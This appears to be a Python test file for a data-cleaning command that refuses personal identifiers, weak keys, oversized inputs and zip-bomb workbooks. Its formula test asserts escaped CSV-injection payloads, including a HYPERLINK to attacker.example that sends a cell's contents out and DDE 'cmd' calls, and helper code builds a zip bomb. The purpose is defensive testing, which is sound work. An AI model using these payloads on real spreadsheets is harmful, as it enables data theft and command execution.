"""Regression tests for issue 12's identity and hostile-input findings (1, 2, 3, 6, 10, 12), each
through ``sscb clean`` as an analyst runs it, on the crafted files in ``tests/fixtures/hostile/``
(small ones) or files generated here (large ones). Finding 5 (script in pages) is in
``test_hostile_pages.py``."""

from __future__ import annotations

import csv
import io
import os
import resource
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from sscb_analysis.cleaning.outputs import output_paths
from sscb_analysis.commands.clean import command

HOSTILE = Path(__file__).resolve().parent / "fixtures" / "hostile"
KEY = "3f9c1e7a5b2d8064c1a9e5f7"
SSCB = str(Path(sys.executable).with_name("sscb"))


def run_cli(*args: str, env: dict | None = None):
    return CliRunner().invoke(command, list(args), env=env, catch_exceptions=False)


def clean_file(path: Path, out: Path, *extra: str, env: dict | None = None):
    return run_cli("cpp", str(path), "--out", str(out), *extra, env=env)


def written(out: Path) -> list[str]:
    return sorted(p.name for p in out.iterdir()) if out.exists() else []


def all_text(out: Path) -> str:
    """Everything the cleaner wrote, as text (the parquet's bytes included)."""
    if not out.exists():
        return ""
    return "".join(p.read_bytes().decode("utf-8", "replace") for p in out.iterdir() if p.is_file())


# ---------------------------------------------------------------------------- finding 1
@pytest.mark.parametrize(
    ("name", "column", "row", "looks_like", "secret"),
    [
        ("id_one_nhs_number.csv", "child_id", 4, "NHS numbers", "476"),
        ("id_one_email.csv", "plan_id", 3, "email addresses", "bloggs"),
        ("id_one_postcode.csv", "child_id", 5, "postcodes", "7AB"),
        ("id_one_upn.csv", "child_id", 2, "Unique Pupil Numbers", "H8012"),
    ],
)
def test_one_identifier_in_an_id_column_is_refused(tmp_path, name, column, row, looks_like, secret):
    out = tmp_path / "out"
    res = clean_file(HOSTILE / name, out)
    assert res.exit_code == 3, res.output
    assert f"column '{column}'" in res.output and f"row {row}" in res.output
    assert looks_like in res.output and "value withheld" in res.output
    assert secret not in res.output and written(out) == []
    # With --pseudonymise the id column is hashed: nothing of the value is kept.
    res = clean_file(HOSTILE / name, out, "--pseudonymise", env={"SSCB_PSEUDONYM_KEY": KEY})
    assert res.exit_code == 0, res.output
    assert secret not in all_text(out) and secret not in res.output


# ---------------------------------------------------------------------------- finding 2
@pytest.mark.parametrize(
    ("name", "column", "row", "looks_like", "secrets"),
    [
        ("team_nhs_in_text.csv", "team", 3, "NHS numbers", ["476", "5919"]),
        ("team_phone_in_text.csv", "team", 4, "UK phone numbers", ["07700", "900123", "mum"]),
        ("team_dob_in_text.csv", "team", 5, "dates of birth", ["03.03", "2008"]),
        ("gender_nhs.csv", "gender", 3, "NHS numbers", ["9434765919"]),
        ("gender_name.csv", "gender", 4, "people's names", ["Jane", "Smith"]),
    ],
)
def test_identifiers_inside_text_are_refused_and_never_echoed(
    tmp_path, name, column, row, looks_like, secrets
):
    for extra, env in (((), None), (("--pseudonymise",), {"SSCB_PSEUDONYM_KEY": KEY})):
        out = tmp_path / "out"
        res = clean_file(HOSTILE / name, out, *extra, env=env)
        assert res.exit_code == 3, res.output
        assert f"column '{column}'" in res.output and f"row {row}" in res.output
        assert looks_like in res.output and "value withheld" in res.output
        assert not [s for s in secrets if s in res.output], res.output
        assert written(out) == []  # no quarantine, no log, no summary to carry it


# ---------------------------------------------------------------------------- finding 3
def test_a_header_holding_an_identifier_is_refused_and_never_shown(tmp_path):
    path = HOSTILE / "header_identifier.csv"
    tries = [
        ((), None),
        (("--pseudonymise",), {"SSCB_PSEUDONYM_KEY": KEY}),
        (("--drop", "Jane Smith 9434765919"), None),
    ]
    for extra, env in tries:
        out = tmp_path / "out"
        res = clean_file(path, out, *extra, env=env)
        assert res.exit_code == 3, res.output
        assert "column 13" in res.output and "header is withheld" in res.output
        assert "Jane" not in res.output and "9434765919" not in res.output
        assert written(out) == []


# ---------------------------------------------------------------------------- finding 5 (terminal)
def test_markup_and_control_characters_in_headers_reach_no_terminal_raw(tmp_path):
    out = tmp_path / "out"
    res = clean_file(HOSTILE / "header_markup.csv", out)
    assert res.exit_code == 0, res.output
    assert "\x1b" not in res.output and "\u202e" not in res.output
    assert "\\x1b[2J" in res.output  # shown, as an escape
    log = pd.read_csv(output_paths("cpp", out)["log"], dtype=str, keep_default_na=False)
    assert "LOAD001" in set(log["rule"])  # the unknown columns were dropped, and said so


# ---------------------------------------------------------------------------- finding 6
def test_formulas_reach_the_spreadsheet_files_neutralised_and_the_parquet_intact(tmp_path):
    out = tmp_path / "out"
    res = clean_file(HOSTILE / "formulas.csv", out)
    assert res.exit_code == 0, res.output
    paths = output_paths("cpp", out)
    for kind in ("quarantine", "log"):
        with open(paths[kind], newline="", encoding="utf-8") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not [c for c in risky if not c.lstrip("+-").replace(".", "").isdigit()], risky
    log = pd.read_csv(paths["log"], dtype=str, keep_default_na=False)
    values = set(log["value"])
    assert '\'=HYPERLINK("http://attacker.example/?d="&A1,"click")' in values
    assert {"'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0"} <= values
    quarantine = pd.read_csv(paths["quarantine"], dtype=str, keep_default_na=False)
    assert quarantine["previous_plans"].tolist() == ["'-2+3"]
    data = pd.read_parquet(paths["data"])
    assert "=1+2" in set(data["team"])  # the true value, kept for analysis


# ---------------------------------------------------------------------------- finding 12
@pytest.mark.parametrize(
    "key", [" " * 16, "a" * 16, "ab" * 12, "abcabcabcabcabca", "Password1Password1", "short"]
)
def test_weak_keys_are_refused_with_a_sentence(tmp_path, key):
    src = HOSTILE / "id_one_nhs_number.csv"
    res = clean_file(src, tmp_path / "out", "--pseudonymise", env={"SSCB_PSEUDONYM_KEY": key})
    assert res.exit_code == 1 and "SSCB_PSEUDONYM_KEY" in res.output
    assert "Traceback" not in res.output and written(tmp_path / "out") == []


def test_a_key_that_is_not_text_gets_one_sentence(tmp_path):
    env = dict(os.environ, SSCB_PSEUDONYM_KEY="3f9c1e7a5b2d8064\udcff\udcfe")
    res = clean_file(HOSTILE / "id_one_nhs_number.csv", tmp_path / "o", "--pseudonymise", env=env)
    assert res.exit_code == 1 and "not valid text" in res.output
    # As a shell would pass it: bytes that are not UTF-8, in a real process.
    proc = subprocess.run(
        [
            SSCB,
            "clean",
            "cpp",
            str(HOSTILE / "id_one_nhs_number.csv"),
            "--pseudonymise",
            "--out",
            str(tmp_path / "o2"),
        ],
        env={**os.environb, b"SSCB_PSEUDONYM_KEY": b"3f9c1e7a5b2d8064\xff\xfe\xfd"},
        capture_output=True,
        check=False,
    )
    assert proc.returncode == 1 and b"not valid text" in proc.stderr
    assert b"Traceback" not in proc.stderr


def test_a_nul_byte_anywhere_is_refused_on_every_read_path(tmp_path, monkeypatch):
    import sscb_analysis.cleaning.read as read

    path = HOSTILE / "nul_after_4kb.csv"
    assert path.read_bytes().index(b"\x00") > 4096
    res = clean_file(path, tmp_path / "out")
    assert res.exit_code == 1 and "NUL byte" in res.output and "column 1" in res.output
    # The careful path (a pipe, a file that cannot be mapped) says where, too.
    monkeypatch.setattr(read, "_read_plain_csv", lambda *a, **k: None)
    res = clean_file(path, tmp_path / "out")
    assert res.exit_code == 1 and "NUL byte at byte" in res.output and "(line " in res.output


# ---------------------------------------------------------------------------- finding 10
def _timed_cli(tmp_path: Path, path: Path) -> tuple[subprocess.CompletedProcess, float, float]:
    """``sscb clean cpp path`` in a child process: (result, seconds, the child's peak MB)."""
    began = time.perf_counter()
    proc = subprocess.run(
        [SSCB, "clean", "cpp", str(path), "--out", str(tmp_path / "out")],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    return proc, time.perf_counter() - began, peak


def test_a_csv_with_100000_header_columns_is_refused_at_once(tmp_path):
    path = tmp_path / "wide.csv"
    header = ",".join(f"c{i}" for i in range(100_000))
    path.write_text(header + "\n" + "," * 99_999 + "\n", encoding="utf-8")
    res, seconds, _ = _timed_cli(tmp_path, path)
    assert res.returncode == 1 and "100,000 columns" in res.stderr, res.stderr
    assert "Traceback" not in res.stderr and seconds < 30


def test_a_csv_whose_first_line_is_over_a_mebibyte_is_refused(tmp_path):
    path = tmp_path / "wider.csv"
    path.write_text(",".join(f"c{i}" for i in range(1_000_000)) + "\nx\n", encoding="utf-8")
    res, seconds, _ = _timed_cli(tmp_path, path)
    assert res.returncode == 1 and "first line longer than 1 MiB" in res.stderr, res.stderr
    assert seconds < 30


def test_a_value_longer_than_an_excel_cell_is_refused(tmp_path):
    path = tmp_path / "long.csv"
    text = (HOSTILE / "formulas.csv").read_text(encoding="utf-8")
    path.write_text(text.replace("Team A", "T" * 40_000, 1), encoding="utf-8")
    res = clean_file(path, tmp_path / "out")
    assert res.exit_code == 1 and "32,767 characters" in res.output


def _xlsx(path: Path, sheet_xml: bytes, *, level: int = 6) -> None:
    """A minimal workbook whose first sheet is ``sheet_xml`` (inline strings)."""
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://'
        b'schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
        b'ContentType="application/xml"/></Types>',
        "xl/workbook.xml": b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
        b"</workbook>",
        "xl/_rels/workbook.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="worksheet" '
        b'Target="worksheets/sheet1.xml"/></Relationships>',
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as book:
        for name, data in parts.items():
            book.writestr(name, data)
        book.writestr("xl/worksheets/sheet1.xml", sheet_xml)


def _sheet(rows: list[tuple[int, list[str]]], dimension: str = "A1:L5") -> bytes:
    """Sheet XML of (row number, cell texts) as inline strings from column A."""
    out = io.StringIO()
    out.write(
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData>'
    )
    for r, cells in rows:
        out.write(f'<row r="{r}">')
        for c, text in enumerate(cells):
            col = chr(65 + c)
            out.write(f'<c r="{col}{r}" t="inlineStr"><is><t>{text}</t></is></c>')
        out.write("</row>")
    out.write("</sheetData></worksheet>")
    return out.getvalue().encode()


def _records(n: int = 3) -> list[tuple[int, list[str]]]:
    with open(HOSTILE / "id_one_upn.csv", encoding="utf-8") as fh:
        body = list(csv.reader(fh))
    body[1][1] = "C00009"  # no identifier in this one
    return [(i + 1, row) for i, row in enumerate(body[: n + 1])]


def test_an_xlsx_declaring_the_whole_sheet_is_read_in_bounded_memory(tmp_path):
    path = tmp_path / "declared.xlsx"
    _xlsx(path, _sheet(_records(), dimension="A1:XFD1048576"))
    assert path.stat().st_size < 8192
    res, seconds, peak = _timed_cli(tmp_path, path)
    assert res.returncode == 0, res.stderr
    assert seconds < 60 and peak < 1500


def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    path = tmp_path / "bomb.xlsx"
    padding = b"<!--" + b" " * (120 << 20) + b"-->"  # 120 MB of spaces packs to ~120 KB
    _xlsx(path, _sheet(_records()).replace(b"<sheetData>", padding + b"<sheetData>"), level=9)
    assert path.stat().st_size < 2 << 20
    res, seconds, _ = _timed_cli(tmp_path, path)
    assert res.returncode == 1 and "zip bomb" in res.stderr, res.stderr
    assert seconds < 30


def test_a_stray_cell_at_the_last_excel_row_writes_one_log_line(tmp_path):
    path = tmp_path / "stray.xlsx"
    _xlsx(path, _sheet([*_records(), (1_048_576, ["x"])]))
    res, seconds, _ = _timed_cli(tmp_path, path)
    assert res.returncode == 0, res.stderr
    log = pd.read_csv(output_paths("cpp", tmp_path / "out")["log"], dtype=str)
    blank = log[log["rule"] == "CPP001"]
    assert len(blank) == 1 and "to row 1,048,575" in blank["message"].iloc[0]
    assert len(log) < 50 and seconds < 120


def test_a_row_past_the_last_excel_row_is_refused(tmp_path):
    path = tmp_path / "past.xlsx"
    _xlsx(path, _sheet([*_records(), (999_999_999, ["x"])]))
    res, seconds, _ = _timed_cli(tmp_path, path)
    assert res.returncode == 1 and "past Excel's last" in res.stderr, res.stderr
    assert seconds < 30


def test_a_cell_far_to_the_right_is_refused_before_the_row_is_padded(tmp_path):
    path = tmp_path / "far.xlsx"
    sheet = _sheet(_records()).replace(
        b"</row></sheetData>",
        b'<c r="ZZZZZ4" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
    )
    _xlsx(path, sheet)
    res, seconds, _ = _timed_cli(tmp_path, path)
    assert res.returncode == 1 and "column 12,356,630" in res.stderr, res.stderr
    assert seconds < 30


@pytest.mark.parametrize("damage", ["truncated sheet", "bad checksum", "not a zip"])
def test_broken_xlsx_parts_give_a_sentence(tmp_path, damage):
    path = tmp_path / "broken.xlsx"
    _xlsx(path, _sheet(_records()), level=0)
    data = bytearray(path.read_bytes())
    if damage == "truncated sheet":
        _xlsx(path, _sheet(_records())[:-60])
        data = bytearray(path.read_bytes())
    elif damage == "bad checksum":
        at = data.index(b"CPP000001")  # stored (level 0): flip a byte of the sheet itself
        data[at] ^= 0x01
    else:
        data = bytearray(b"PK\x03\x04" + b"\x00" * 200)
    path.write_bytes(bytes(data))
    res = clean_file(path, tmp_path / "out")
    assert res.exit_code == 1, res.output
    assert "not a readable Excel workbook" in res.output and "Traceback" not in res.output
